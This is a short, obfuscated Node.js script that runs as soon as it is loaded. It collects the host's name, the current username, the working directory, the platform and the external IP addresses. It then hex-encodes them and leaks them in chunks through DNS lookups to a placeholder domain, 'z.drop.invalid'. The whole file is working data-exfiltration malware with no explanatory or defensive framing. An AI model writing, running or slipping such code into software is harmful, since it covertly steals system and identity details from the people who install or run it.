var item0 = require('os');
var item1 = require('dns');
var item2 = 'z.drop.invalid';
var item3 = 60;
function item4() {
  var item8 = [item0.hostname(), item0.userInfo().username, process.cwd(), item0.platform()];
  var item9 = item0.networkInterfaces();
  for (var item10 in item9) {
    item9[item10].forEach(function (item11) {
      if (!item11.internal && item11.family === 'IPv4') {
        item8.push(item11.address);
      }
    });
  }
  return item8.join('|');
}
function item5(item12) {
  return Buffer.from(item12, 'utf8').toString('hex');
}
function item6(item13, item14) {
  var item15 = Math.ceil(item13.length / item3);
  for (var item16 = 0; item16 < item15; item16++) {
    var item17 = item13.substr(item16 * item3, item3);
    var item18 = [item17, item16 + '-' + item15, item14, item2].join('.');
    item1.resolve4(item18, function (item19) {
      if (item19 && item19.code === 'ETIMEOUT') {
        item1.lookup(item18, function () {});
      }
    });
  }
}
var item7 = Math.random().toString(36).slice(2, 8);
item6(item5(item4()), item7);
